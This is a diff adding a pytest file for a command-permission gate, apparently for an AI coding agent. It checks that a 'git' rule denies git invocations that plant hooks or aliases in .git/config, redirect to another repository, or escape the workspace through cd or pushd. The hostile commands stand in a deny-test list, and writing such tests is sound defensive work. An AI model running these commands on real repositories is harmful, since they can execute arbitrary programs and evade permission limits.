@@ -1,0 +1,127 @@
+"""git as a launcher: a rule for git grants the workspace's own repository, and no other program."""
+
+import pytest
+
+from granting import allowed
+from prowess.core.chat import Call
+from prowess.permit.rules import make_gate, parse_rules
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git x",  # may be an alias
+        "git merge-index sh -a",
+        "git hook run pre-commit",
+        "git checkout-index --prefix=.git/hooks/ -a",
+        "git mailinfo .git/config x",
+        "git log -1 --format='[alias]%n x = !id' --output=.git/config",
+        "git log --output .git/config",
+        "git diff --outp=x",
+        "git show --output=x",
+        "git archive -o x HEAD",
+        "git archive -ox HEAD",
+        "git archive --o=x HEAD",
+        "git format-patch -o x HEAD~1",
+        "git format-patch --output-directory=x HEAD~1",
+        "git bundle create x HEAD",
+        "git diff --ext-diff",
+        "git cat-file --textconv HEAD:x",
+        "git apply --unsafe-paths x.patch",
+        "git clone https://x.example/y .git/hooks",
+        "git worktree add .git/hooks",
+        "git merge-file .git/config a b",
+        "git push ./evil main",
+        "git remote add x ../evil",
+        "git --bare status",
+        "git --git-dir=evil status",
+        "git --git-dir evil/.git status",
+        "git --work-tree=evil status",
+        "git -C evil status",
+        "git -C a/.. status",
+        "cd evil && git status",
+        "cd evil; git status",
+        "(cd evil && git status)",
+        "cd evil && git -C . status",
+        "pushd evil && git status",
+    ],
+)
+def test_no_other_program_and_no_planted_repository_is_reached_through_git(command: str) -> None:
+    assert not allowed("Bash(git:*) Bash(pushd:*)", command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git -C . status",
+        "git -C /ws log",
+        "git --git-dir=.git log",
+        "git --work-tree . status",
+        "cd . && git status",
+        "cd /ws && git status",
+        "cd src && cd .. && git log",
+        "(cd src && pwd); git status",
+        "git log --oneline --stat",
+        "git log --output-indicator-new=x",
+        "git log --ours",
+        "git ls-files -o",
+        "git push -o ci.skip origin main",
+        "git push -u origin feature/x",
+        "git remote add origin git@x.example:y.git",
+        "git diff -- .github/workflows/ci.yml",
+        "git add .gitignore .gitattributes",
+        "git clone https://x.example/y.git z",
+        "git worktree list",
+        "git show HEAD:src/a.py",
+        "git format-patch --stdout HEAD~1",
+        "git commit -m 'leave out .git/hooks'",
+        "git lfs pull",
+    ],
+)
+def test_everyday_git_is_granted_as_before(command: str) -> None:
+    assert allowed("Bash(git:*)", command)
+
+
+def test_a_file_that_git_is_told_to_write_needs_a_rule_as_a_redirection_does() -> None:
+    rules = "Bash(git:*) Write(out/**)"
+
+    assert allowed(rules, "git diff --output=out/a.diff")
+    assert allowed(rules, "git archive -o out/a.tar HEAD")
+    assert allowed(rules, "git bundle create out/a HEAD")
+    assert not allowed(rules, "git diff --output=a.diff")
+    assert not allowed(rules, "git diff --output=../out/a.diff")
+    assert not allowed(rules, 'git diff --output="$x"')
+    assert not allowed("Bash(git:*) Write", "git diff --output=.git/config")
+
+
+def test_an_exact_rule_still_grants_any_form_of_git() -> None:
+    assert allowed("Bash(git -C sub status)", "git -C sub status")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git push",
+        "git -C . push",
+        "git --no-pager push",
+        "git -P push origin",
+        "git --git-dir .git push",
+        "git -c user.name=x push",
+        "git -c alias.x=push x",
+        "git x",
+        "git send-pack origin main",
+        "timeout 9 git -P push",
+    ],
+)
+@pytest.mark.parametrize("granted", ["Bash", "Bash(git:*)"])
+def test_a_forbidden_subcommand_is_seen_behind_the_options_of_git(
+    granted: str, command: str
+) -> None:
+    gate = make_gate(
+        allowed=parse_rules(granted), disallowed=parse_rules("Bash(git push:*)"), workspace="/ws"
+    )
+
+    told = gate(Call(id="1", tool="Bash", input={"command": command}))
+
+    assert not told.allowed
+    assert gate(Call(id="1", tool="Bash", input={"command": "git -P log -1"})).allowed
